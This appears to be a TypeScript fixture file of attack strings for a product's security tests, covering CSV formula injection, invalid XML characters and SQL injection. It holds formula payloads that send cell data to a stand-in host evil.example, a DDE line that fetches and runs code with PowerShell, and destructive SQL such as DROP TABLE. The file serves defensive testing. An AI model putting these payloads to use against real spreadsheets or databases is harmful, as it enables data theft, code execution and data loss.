/** The attack strings the trust tests send through the product (one list each, shared by the tests). */

/** Formula-injection payloads from OWASP's CSV-injection page and public reports. */
export const formulaInjectionStrings = [
  '=HYPERLINK("https://evil.example/?leak="&A1,"Klik her")',
  '=1+1',
  "+cmd|' /C calc'!A0",
  '-1+1',
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "=cmd|' /C powershell IEX(wget evil.example/x)'!A0",
  '\t=1+1',
  '\r=1+1',
  '  =1+1',
  '＝1+1',
  '=WEBSERVICE("https://evil.example/"&A1)',
  '=IMPORTXML(CONCAT("https://evil.example/?v=",A1),"//a")',
];

/** Characters XML 1.0 cannot hold (issue 14 item 14): each once made the contact list an invalid .xlsx. */
export const nonXmlStrings = [
  'Regelsæt \uFFFE kopi',
  'Fil \uFFFF navn',
  'styre\u0001tegn\u001Fher',
  'nul\u0000byte',
  'lodret\u000Bfane og \u000Csideskift',
  'ensom \uD800 høj halvdel',
  'ensom \uDC00 lav halvdel',
];

/** Classic SQL injection strings; each must reach the store as data or be refused, never run. */
export const sqlInjectionStrings = [
  "'; DROP TABLE municipality; --",
  "Robert'); DROP TABLE measurement;--",
  '" OR 1=1 --',
  "' OR '1'='1",
  '1; DELETE FROM import_batch',
  "København' UNION SELECT name, sql FROM sqlite_master --",
  "\\'; ATTACH DATABASE '/tmp/pwn.db' AS pwn; --",
  "'); PRAGMA writable_schema = 1; --",
  '%27%3B%20DROP%20TABLE%20municipality%3B%20--',
  'Læsø\u0000; DROP TABLE municipality',
];
